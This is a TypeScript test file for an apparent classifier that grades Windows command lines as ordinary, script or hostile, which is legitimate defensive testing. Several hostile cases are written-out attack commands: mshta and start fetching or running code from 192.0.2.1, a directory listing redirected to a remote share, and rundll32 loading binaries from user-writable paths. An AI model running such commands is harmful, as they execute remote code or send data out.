import assert from 'node:assert/strict'
import { test } from 'node:test'
import { assess } from './assess.ts'
import type { Grade } from './grades.ts'

const CASES: readonly (readonly [command: string, grade: Grade])[] = [
  ['robocopy C:\\Data \\\\nas\\backup /MIR', 'ordinary'],
  ['"C:\\Tools\\gradlew.bat" build', 'ordinary'],
  ['cmd /c "xcopy C:\\a D:\\b & dir D:\\b"', 'ordinary'],
  ['cmd /c start "" /b notepad.exe a.txt', 'ordinary'],
  ['cmd /c if exist C:\\a.txt copy C:\\a.txt D:\\', 'ordinary'],
  ['%SystemRoot%\\System32\\rundll32.exe user32.dll,UpdatePerUserSystemParameters', 'ordinary'],
  ['rundll32 user32.dll,UpdatePerUserSystemParameters ,1 ,True', 'ordinary'],
  ['C:\\Windows\\System32\\rundll32.exe shell32.dll,Control_RunDLL timedate.cpl', 'ordinary'],
  ['"%windir%\\system32\\rundll32.exe" printui.dll,PrintUIEntry /in /n "\\\\print01\\Office"', 'ordinary'],
  ['rundll32 shell32.dll,Control_RunDLL C:\\Data\\a.cpl', 'hostile'],
  ['rundll32 C:\\Data\\user32.dll,LockWorkStation', 'hostile'],
  ['C:\\Data\\rundll32.exe user32.dll,LockWorkStation', 'hostile'],
  ['rundll32 user32.dll,LockWorkStation & \\\\192.0.2.1\\s\\a.exe', 'hostile'],
  ['mailto:a@example.com?subject=x', 'ordinary'],
  ['"C:\\Program Files\\ERP\\client.exe" /run', 'ordinary'],
  ['"C:\\ERP\\client.exe" /run', 'script'],
  ['cmd /c cscript //nologo backup.vbs', 'script'],
  // A quoted sign joins no commands.
  ['cmd /c "C:\\A & B\\tool.exe" /x', 'script'],
  ['cmd /c echo hello', 'hostile'],
  ['calc.exe', 'hostile'],
  ['mshta http://192.0.2.1/a.hta', 'hostile'],
  ['cmd /c copy a b & mshta http://192.0.2.1/a.hta', 'hostile'],
  ['cmd /c if exist C:\\a.txt start "" \\\\192.0.2.1\\s\\a.exe', 'hostile'],
  ['cmd /c dir C:\\ > \\\\192.0.2.1\\s\\list.txt', 'hostile'],
  ['%TEMP%\\a.exe', 'hostile'],
]

for (const [command, grade] of CASES)
  test(`${grade} in a script: ${command}`, () => {
    assert.equal(assess(command, { by: 'script', source: command.toLowerCase() }), grade)
  })
